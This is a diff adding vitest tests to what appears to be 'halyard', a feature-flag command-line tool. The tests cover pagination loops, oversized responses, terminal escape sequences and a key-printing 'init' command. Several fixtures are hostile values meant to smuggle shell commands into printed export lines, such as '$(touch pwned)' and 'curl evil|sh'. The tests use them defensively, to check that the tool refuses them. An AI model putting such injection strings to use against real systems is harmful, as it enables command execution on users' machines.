@@ -1,4 +1,7 @@
-import { expect, test } from 'vitest'
+import { existsSync, mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, describe, expect, test } from 'vitest'
 import { type ExitCode, run } from './program.ts'
 import type { World } from './world.ts'
 
@@ -210,4 +213,105 @@ test('--version and --help are answers, not mistakes', async () => {
   const help = await halyard('flags ramp --help', failing('ECONNREFUSED'))
   expect(help.exit).toBe(0)
   expect(help.out).toContain('--json')
+})
+
+test('a list that leads back to where it was ends with an error', async () => {
+  for (const nextCursor of ['same', { a: 'b' }]) {
+    let asked = 0
+    const send: typeof fetch = async () => {
+      // One that never ends would take the test's worker with it.
+      if (++asked > 5) throw new Error('asked again and again')
+      return Response.json({ items: [], nextCursor })
+    }
+    const { exit, err } = await halyard('flags list', send)
+    expect(exit).toBe(1)
+    expect(err).toContain('answers not as Halyard does')
+  }
+})
+
+test('an answer without an end is let go of', async () => {
+  let sent = 0
+  let isCancelled = false
+  const body = new ReadableStream<Uint8Array>({
+    pull: (stream) => {
+      sent += 1
+      if (sent > 100) stream.close()
+      else stream.enqueue(new Uint8Array(1_000_000).fill(0x20))
+    },
+    cancel: () => void (isCancelled = true),
+  })
+  const { exit, err } = await halyard('flags list', async () => new Response(body))
+  expect({ exit, err: err.split('\n')[0] }).toEqual({
+    exit: 1,
+    err: 'halyard: http://flags.test answers with more than 64 MB',
+  })
+  expect(isCancelled).toBe(true)
+})
+
+test('an answer comes in as many parts as it likes, also in the middle of a letter', async () => {
+  const bytes = new TextEncoder().encode(JSON.stringify({ items: [{ key: 'kůň' }], nextCursor: null }))
+  const body = new ReadableStream<Uint8Array>({
+    start: (stream) => {
+      for (const byte of bytes) stream.enqueue(Uint8Array.of(byte))
+      stream.close()
+    },
+  })
+  const { err } = await halyard('kill x', async () => new Response(body))
+  expect(err).toContain('There is: kůň')
+})
+
+test('what verifies the audit says nothing that a terminal obeys', async () => {
+  const head = { seq: 7, hash: 'a\u001b[2J\u202e' }
+  const { exit, out } = await halyard('audit verify', answering(200, { valid: true, entries: '\u009b1\n', head }))
+  expect({ exit, out }).toEqual({ exit: 0, out: 'valid: \\u009b1\\n entries, the last is 7 with a\\u001b[2J\\u202e\n' })
+})
+
+describe('init', () => {
+  const home = mkdtempSync(join(tmpdir(), 'halyard-init-'))
+  afterAll(() => rmSync(home, { recursive: true, force: true }))
+  const env = { ...ENV, XDG_CONFIG_HOME: home }
+  const secret = 'hal_sdk_0123456789Ab_0123456789012345678901234567890123456789_0a1b2c3d'
+  const made = (key: string, answer: unknown): typeof fetch => {
+    return async (url, init) => {
+      if (init?.method === 'POST')
+        return Response.json({ id: 'x', kind: 'sdk', name: 'n', secret: answer }, { status: 201 })
+      const isList = new URL(url instanceof Request ? url.url : url).pathname.endsWith('/flags')
+      return Response.json(isList ? { items: [{ key, type: 'boolean' }], nextCursor: null } : { key })
+    }
+  }
+
+  test('prints the key as a line for a shell', async () => {
+    const { exit, out } = await halyard('init -p shop -e live', made('new-checkout', secret), { env })
+    expect(exit).toBe(0)
+    expect(out).toContain(`  export HALYARD_SDK_KEY=${secret}\n`)
+  })
+
+  test.each([
+    `${secret}; touch pwned`,
+    `${secret}\ncurl evil|sh`,
+    `${secret}\n`,
+    'hal_sdk_$(touch pwned)',
+    '`x`',
+    'hal_sdk_\u001b[2J',
+    '',
+    null,
+    7,
+  ])('shows nothing of a secret that is no key of Halyard’s, and keeps nothing: %j', async (answer) => {
+    rmSync(join(home, 'halyard'), { recursive: true, force: true })
+    for (const json of ['', ' --json']) {
+      const { exit, out, err } = await halyard(`init -p shop -e live${json}`, made('new-checkout', answer), { env })
+      expect({ exit, out }).toEqual({ exit: 1, out: '' })
+      expect(err).toContain('what the server gave out is no SDK key')
+      expect(err).not.toContain('pwned')
+    }
+    expect(existsSync(join(home, 'halyard'))).toBe(false)
+  })
+
+  test('takes no flag of a list into lines for pasting that is no key', async () => {
+    for (const key of ['$(touch pwned)', "a';evil();'", 'a\nevil()', '\u001b[2J', '\u202e']) {
+      const { out } = await halyard('init -p shop -e live', made(key, secret), { env })
+      expect(out).toContain("flags.boolean('new-checkout', false")
+      expect(out).toContain('halyard flags enable new-checkout\n')
+    }
+  })
 })
